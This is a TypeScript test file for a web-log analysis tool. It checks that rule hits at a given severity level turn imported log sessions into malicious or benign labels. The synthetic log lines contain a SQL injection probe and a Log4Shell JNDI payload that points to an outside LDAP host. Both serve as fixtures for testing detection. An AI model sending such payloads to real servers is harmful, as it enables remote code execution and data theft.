// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template.
// `--labels rules:LEVEL`: rule hits at a level or above as labels (the others benign), resolved on a
// real database after an import ran the shipped pack.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { openDatabase } from '../../../src-main/core/db/open.js';
import { runImport } from '../../../src-main/core/ingest/pipeline.js';
import { parseLabelSpec, resolveLabels } from '../../../src-main/core/ml/evaluate/labels.js';
import { createTempDirs } from '../../helpers/temp.js';

const tempDir = createTempDirs();
const line = (i: number, target: string) =>
  `198.18.0.${i} - - [12/Feb/2024:10:${String(i).padStart(2, '0')}:00 +0000] "GET ${target} HTTP/1.1" 200 100 "-" "Mozilla/5.0"`;

describe('rule-derived labels', () => {
  it('counts a session malicious when it has a hit at the level or above', async () => {
    const dir = tempDir();
    const lines = [
      ...Array.from({ length: 12 }, (_, i) => line(i, `/page/${i}.html`)),
      ...Array.from({ length: 12 }, (_, i) => line(12 + i, `/item.php?id=${i}%27%20UNION%20SELECT%20null--`)),
      ...Array.from({ length: 12 }, (_, i) => line(24 + i, `/?q=\${jndi:ldap://198.51.100.9/${i}}`)),
    ];
    fs.writeFileSync(path.join(dir, 'a.log'), `${lines.join('\n')}\n`);
    const db = openDatabase(path.join(dir, 'v.db'));
    await runImport(db, { file: path.join(dir, 'a.log'), enrich: false });
    const counts = (spec: string) =>
      resolveLabels(
        db,
        parseLabelSpec(spec, () => ({})),
        true,
      )?.counts;
    expect(parseLabelSpec('rules:High', () => ({}))).toEqual({ type: 'rule-hits', level: 'high' });
    expect(counts('rules:critical')).toEqual({ malicious: 12, benign: 24 });
    expect(counts('rules:high')).toEqual({ malicious: 24, benign: 12 });
    expect(counts('rules:informational')).toEqual({ malicious: 24, benign: 12 });
    expect(counts('rule-hits')).toEqual({ malicious: 24, benign: 12 });
    expect(() => parseLabelSpec('rules:severe', () => ({}))).toThrow(
      /rules:LEVEL takes a rule level: informational, low/,
    );
    db.close();
  });
});
